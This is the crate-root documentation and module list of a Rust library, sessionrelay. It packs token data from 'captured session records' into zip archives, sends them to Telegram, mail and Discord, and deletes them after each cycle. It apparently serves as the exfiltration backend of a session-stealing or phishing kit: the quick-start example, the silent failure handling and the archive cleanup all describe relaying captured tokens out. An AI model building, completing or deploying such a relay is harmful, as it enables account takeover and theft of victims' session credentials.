//! # sessionrelay - Session Notification Relay
//!
//! sessionrelay takes a captured session record, packs its token data into a
//! short-lived zip archive and relays a readable summary plus that archive to the
//! configured notification channels.
//!
//! ## Features
//!
//! - **Ephemeral Archives**: Five-entry zip per session (four JSON token groups plus the session id), deleted at the end of every cycle.
//! - **Multi-Channel Fan-Out**: Telegram, SMTP mail and Discord, attempted concurrently and independently.
//! - **Failure Isolation**: A failing channel never blocks another; every failure is logged, none reach the caller.
//! - **Data Minimization**: The text summary never contains token data; that travels only inside the archive.
//! - **Hot Config**: The TOML config is re-read for every cycle.
//!
//! ## Quick Start
//!
//! ```rust,no_run
//! use sessionrelay::dispatch::Dispatcher;
//! use sessionrelay::session::Session;
//!
//! #[tokio::main]
//! async fn main() -> anyhow::Result<()> {
//!     let json = std::fs::read_to_string("session.json")?;
//!     let session: Session = serde_json::from_str(&json)?;
//!
//!     let dispatcher = Dispatcher::from_config_file("sessionrelay.toml");
//!     dispatcher.dispatch(&session).await;
//!     Ok(())
//! }
//! ```
//!
//! ## Module Organization
//!
//! - [`dispatch`] - The notification cycle: config → message → archive → channels → cleanup
//! - [`archive`] - Ephemeral zip construction and removal
//! - [`message`] - Human-readable session summary
//! - [`channels`] - Telegram, mail and Discord senders
//! - [`config`] - TOML configuration and config sources
//! - [`session`] - The captured session record
//! - [`token`] - Random identifiers for archive and entry names
//!
//! ## Architecture
//!
//! ```text
//! ┌─────────────────┐
//! │   Dispatcher    │ ← One cycle per session
//! └─────────────────┘
//!     │         │
//! ┌────────┐ ┌──────────┐
//! │Message │ │ Archive  │ ← Summary text / token zip
//! └────────┘ └──────────┘
//!          │
//! ┌─────────────────┐
//! │    Channels     │ ← Telegram · Mail · Discord
//! └─────────────────┘
//! ```

pub mod archive;
pub mod channels;
pub mod config;
pub mod dispatch;
pub mod error;
pub mod message;
pub mod metrics;
pub mod session;
pub mod text;
pub mod token;
